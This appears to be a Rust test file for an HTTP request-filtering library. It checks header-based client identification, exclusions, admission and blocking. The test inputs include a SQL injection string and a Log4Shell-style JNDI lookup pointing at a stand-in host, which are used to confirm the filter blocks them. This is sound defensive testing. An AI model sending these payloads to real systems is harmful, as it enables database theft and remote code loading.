//! Clients that are named in the head, and requests that are let in or not.

use std::net::IpAddr;
use std::sync::{Arc, OnceLock};

use filter_score::{
    Asks, Decision, Disposition, Exclusion, Policies, Policy, Reception, RequestHead, RuleSet, Scorer,
    Stream, Tuning, builtin_packs, parse_field_line,
};
use proptest::prelude::*;

const PEER: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(10, 0, 0, 1));

fn rules() -> Arc<RuleSet> {
    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
    let compile = || Arc::new(RuleSet::compile(builtin_packs()).expect("the built-in packs are tested"));
    Arc::clone(RULES.get_or_init(compile))
}

/// Rules that do not count for 192.0.2.7.
fn policies() -> Arc<Policies> {
    let general = Tuning {
        exclusions: vec![Exclusion {
            reason: "a scanner of our own".into(),
            sources: vec!["192.0.2.7/32".parse().expect("a block")],
            ..Exclusion::default()
        }],
        ..Policy::default().into()
    };
    let compiled = Policies::compile(rules(), &general, &[]).expect("right");
    Arc::new(compiled.noting_heads(true))
}

/// Believes `X-Client`, refuses the path `/shut`, and writes down what it hears.
#[derive(Default)]
struct Book {
    lines: Vec<String>,
}

impl Reception for Book {
    fn client(&mut self, head: &[u8]) -> Option<IpAddr> {
        assert!(
            head.ends_with(b"\n\r\n") || head.ends_with(b"\n\n"),
            "a whole head"
        );
        let mut fields = head.split(|byte| *byte == b'\n').filter_map(parse_field_line);
        let (_, value) = fields.find(|(name, _)| name.eq_ignore_ascii_case(b"x-client"))?;
        std::str::from_utf8(value).ok()?.trim().parse().ok()
    }

    fn admits(&mut self, request: &RequestHead<'_>) -> bool {
        let path = request
            .path
            .map(<[u8]>::escape_ascii)
            .map(|path| path.to_string());
        let source = request.source.expect("the stream has one");
        let method = request.method.escape_ascii();
        self.lines.push(format!("{source} {method} {path:?}"));
        request.path != Some(b"/shut")
    }

    fn decided(&mut self, decision: &Decision<'_>) {
        self.lines.push(format!(
            "{:?} {:?} {} {} {}",
            decision.source, decision.verdict, decision.anomaly, decision.excluded_hits, decision.bytes
        ));
    }
}

/// Feeds a stream in pieces that end at `cuts`; what was heard, and what came of it.
fn run(text: &[u8], cuts: &[usize], client: bool, cache: usize) -> (Vec<String>, Disposition) {
    let mut scorer = Scorer::with_policies(policies(), 4).with_cache(cache, &[7; 16]);
    let mut stream = Stream::new().from_source(PEER);
    stream.set_asks(Asks {
        client,
        admission: true,
    });
    let mut book = Book::default();
    let mut from = 0;
    for end in cuts.iter().copied().chain([text.len()]) {
        let end = end.clamp(from, text.len());
        let disposition = scorer.feed_through(&mut stream, &text[from..end], &mut book);
        if disposition != Disposition::Accept {
            assert_eq!(scorer.available(), 4, "the buffer is back");
            return (book.lines, disposition);
        }
        from = end;
    }
    let disposition = scorer.finish(&mut stream, |decision| book.decided(decision));
    assert_eq!(scorer.available(), 4, "the buffer is back");
    (book.lines, disposition)
}

fn get(path: &str, client: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: a\r\nX-Client: {client}\r\n\r\n")
}

#[test]
fn a_client_in_the_head_is_known_before_anything_is_scored() {
    let attack = "/?id=1%20UNION%20SELECT%20user,2%20FROM%20users--";
    let (heard, disposition) = run(get(attack, "192.0.2.8").as_bytes(), &[], true, 0);
    assert_eq!(disposition, Disposition::Block);
    assert!(heard[0].starts_with("Some(192.0.2.8) Block"), "{heard:?}");
    let (heard, disposition) = run(get(attack, "192.0.2.7").as_bytes(), &[], true, 0);
    assert_eq!(disposition, Disposition::Accept, "{heard:?}");
    assert!(heard[1].starts_with("Some(192.0.2.7) Allow"), "{heard:?}");
    let (heard, disposition) = run(get(attack, "nobody").as_bytes(), &[], true, 0);
    assert_eq!(disposition, Disposition::Block);
    assert!(heard[0].starts_with("Some(10.0.0.1) Block"), "{heard:?}");
    let (heard, _) = run(get(attack, "192.0.2.7").as_bytes(), &[], false, 0);
    assert!(heard[0].starts_with("Some(10.0.0.1) Block"), "{heard:?}");
}

#[test]
fn a_request_is_let_in_once_whether_it_is_known_or_not() {
    let one = get("/a/../b?x=1", "192.0.2.9");
    let text = [&one[..], &one, &get("/shut", "192.0.2.9"), &one].concat();
    for client in [false, true] {
        let source = if client { "192.0.2.9" } else { "10.0.0.1" };
        let cuts: Vec<_> = (1..4).map(|n| n * one.len()).collect();
        for cache in [0, 64] {
            let (heard, disposition) = run(text.as_bytes(), &cuts, client, cache);
            assert_eq!(disposition, Disposition::Refused);
            let asked: Vec<_> = heard.iter().filter(|line| line.contains("GET")).collect();
            let path = |path: &str| format!("{source} GET Some({path:?})");
            assert_eq!(asked, [&path("/b"), &path("/b"), &path("/shut")]);
            assert_eq!(heard.len(), 5, "the refused one is not decided: {heard:?}");
        }
    }
}

#[test]
fn what_has_no_whole_head_is_scored_as_the_peers() {
    for text in [
        "GET /old?id=1%20UNION%20SELECT%20user,2%20FROM%20users--\r\n",
        "GET /?id=1%20UNION%20SELECT%20user,2%20FROM%20users-- HTTP/1.1\r\nX-Client: 192.0.2.7\r\n",
        "GET / HTTP/1.1\r\nX-Client: 192.0.2.7\r\nX-Api: ${jndi:ldap://evil.example/a}",
        "\u{16}\u{3}\u{1}",
    ] {
        let (heard, disposition) = run(text.as_bytes(), &[], true, 0);
        assert_eq!(disposition, Disposition::Block, "{text}: {heard:?}");
        assert!(heard[0].starts_with("Some(10.0.0.1) Block"), "{text}: {heard:?}");
    }
}

#[test]
fn a_stream_that_begins_wrongly_is_no_http() {
    let mut scorer = Scorer::with_policies(policies(), 4);
    let mut stream = Stream::new().from_source(PEER);
    let mut told = String::new();
    let disposition = scorer.not_http(&mut stream, b"PROXY TCP9\r\n", |decision| {
        told = decision.explanation().to_string();
    });
    assert_eq!(disposition, Disposition::Block);
    assert!(told.contains("900100") && told.contains("PROXY TCP9"), "{told}");
    assert_eq!(scorer.feed(&mut stream, b"GET", |_| ()), Disposition::Block);
    assert_eq!(scorer.available(), 4);
}

const PIECES: [&str; 9] = [
    "GET / HTTP/1.1\r\nHost: a\r\nX-Client: 192.0.2.7\r\n\r\n",
    "GET /?id=1%20UNION%20SELECT%20user,2%20FROM%20users-- HTTP/1.1\r\nHost: a\r\nX-Client: 192.0.2.7\r\n\r\n",
    "POST /f HTTP/1.1\nHost: a\nX-Client: 192.0.2.8\nContent-Length: 5\n\na=b&c",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nX-Client: 192.0.2.7\r\n\r\n",
    "\r\n",
    "GET /shut HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /old\r\n",
    "GET / HTTP/7.0\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${jndi:ldap://evil.example/a}\r\n\r\n",
];

proptest! {
    #[test]
    fn segments_do_not_matter(
        pieces in prop::collection::vec(0..PIECES.len(), 1..5),
        mut cuts in prop::collection::vec(0usize..600, 0..20),
        client in any::<bool>(),
        short in 0usize..10,
    ) {
        let text: String = pieces.into_iter().map(|piece| PIECES[piece]).collect();
        let text = &text.as_bytes()[..text.len().saturating_sub(short)];
        cuts.sort_unstable();
        let every: Vec<_> = (0..text.len()).collect();
        let whole = run(text, &[], client, 0);
        prop_assert_eq!(&run(text, &cuts, client, 0), &whole);
        prop_assert_eq!(&run(text, &every, client, 0), &whole);
    }
}
